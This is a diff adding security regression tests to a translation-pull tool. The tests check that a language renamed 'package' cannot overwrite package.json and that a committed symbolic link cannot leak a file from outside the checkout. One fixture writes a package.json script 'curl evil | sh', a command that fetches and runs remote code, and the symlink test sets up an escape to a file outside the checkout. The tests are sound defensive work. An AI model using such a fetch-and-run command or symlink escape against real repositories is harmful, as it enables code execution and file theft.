@@ -1,9 +1,12 @@
+import { rmSync, symlinkSync, writeFileSync } from 'node:fs';
+import { join } from 'node:path';
 import { annotations } from '../support/action-runner.ts';
 import { jsonFile } from '../support/emulator.ts';
 import { git } from '../support/git-fixture.ts';
 import type { Scenario, ScenarioOptions } from '../support/scenario.ts';
 import { zipBytes } from '../support/zip-writer.ts';
 import { type Starter, describe, expect, it } from '../support/fixtures.ts';
+import { testFolder } from '../support/temp.ts';
 
 /**
  * The bundle is the service's word, not the user's: a pull writes only the project's languages
@@ -58,6 +61,35 @@ describe('a pull writes only what was asked', () => {
     expect(git(s.fixture.origin, 'show', `${BRANCH}:package.json`)).toBe(pkg);
     expect(run.stdout).toContain('package.json: not a language of the project');
     expect(run.summary).toContain('- `package.json`: not a language of the project');
+    expect(run.outputs['changed-languages']).toBe('["de"]');
+  });
+
+  it('takes no project language whose code is not shaped like one: a language renamed package never writes package.json', async ({
+    startScenario,
+  }) => {
+    const pkg = '{"name":"app","scripts":{"format":"prettier --write ."}}';
+    const s = await project(
+      startScenario,
+      { 'en.json': JSON.stringify(EN), 'package.json': pkg },
+      { files: '%LANG_ISO%.json', 'post-pull-command': 'cat package.json' },
+      ['de', 'fr'],
+    );
+    // Anyone who may rename a language on the service can do this.
+    await s.service.language.set({ id: s.projectId, original_iso: 'fr', custom_iso: 'package' });
+    s.emulator.store.nextBundle = zipBytes([
+      { name: 'de.json', data: DE },
+      { name: 'package.json', data: '{"scripts":{"format":"curl evil | sh"}}' },
+    ]);
+    const run = await s.run();
+    expect(run.code).toBe(0);
+    expect(s.calls('project/export')[0]?.params['langs']).toBe('["de"]');
+    expect(proposed(s)).toEqual(['de.json']);
+    expect(git(s.fixture.origin, 'show', `${BRANCH}:package.json`)).toBe(pkg);
+    expect(run.stdout).not.toContain('curl evil');
+    expect(annotations(run.stdout, 'warning')).toContain(
+      "Not pulled: the project's language 'package': not shaped like a language code (such as de, pt_BR, pt-BR, zh_Hans_CN, sr@latin); name it in pull-languages or language-map to pull it",
+    );
+    expect(run.stdout).toContain('  package.json: not shaped like a language code');
     expect(run.outputs['changed-languages']).toBe('["de"]');
   });
 
@@ -133,6 +165,38 @@ describe('a pull writes only what was asked', () => {
     expect(run.code).toBe(1);
     expect(annotations(run.stdout, 'error')[0]).toMatch(/where case does not count/);
     expect(git(run.workspace, 'status', '--porcelain', '--untracked-files=all')).toBe('');
+  });
+});
+
+describe('a dry run reads the repository from git, not through its links', () => {
+  it('follows no committed link to a file outside, and says what the real run would', async ({
+    startScenario,
+  }) => {
+    const marker = 'MARKER-outside-the-checkout';
+    const outside = join(testFolder('l10n-outside-'), 'secret.json');
+    writeFileSync(outside, JSON.stringify({ hello: marker }));
+    const s = await project(startScenario, {
+      'locales/en.json': JSON.stringify(EN),
+      'locales/fr.json': '{"hello":"Salut"}',
+    });
+    rmSync(join(s.fixture.author, 'locales/fr.json'));
+    symlinkSync(outside, join(s.fixture.author, 'locales/de.json'));
+    git(s.fixture.author, 'add', '-A');
+    git(s.fixture.author, 'commit', '-q', '-m', 'A link');
+    git(s.fixture.author, 'push', '-q', 'origin', 'main');
+    await s.service.project.import({
+      id: s.projectId,
+      lang_iso: 'de',
+      file: jsonFile('de.json', { hello: 'Hallo' }),
+    });
+    const real = await s.run();
+    const dry = await s.run({ 'dry-run': 'true' });
+    const refusal = "'locales/de.json' in the checkout is a symbolic link";
+    for (const run of [real, dry]) {
+      expect(run.code).toBe(1);
+      expect(annotations(run.stdout, 'error')[0]).toContain(refusal);
+      expect(run.everything).not.toContain(marker);
+    }
   });
 });
 
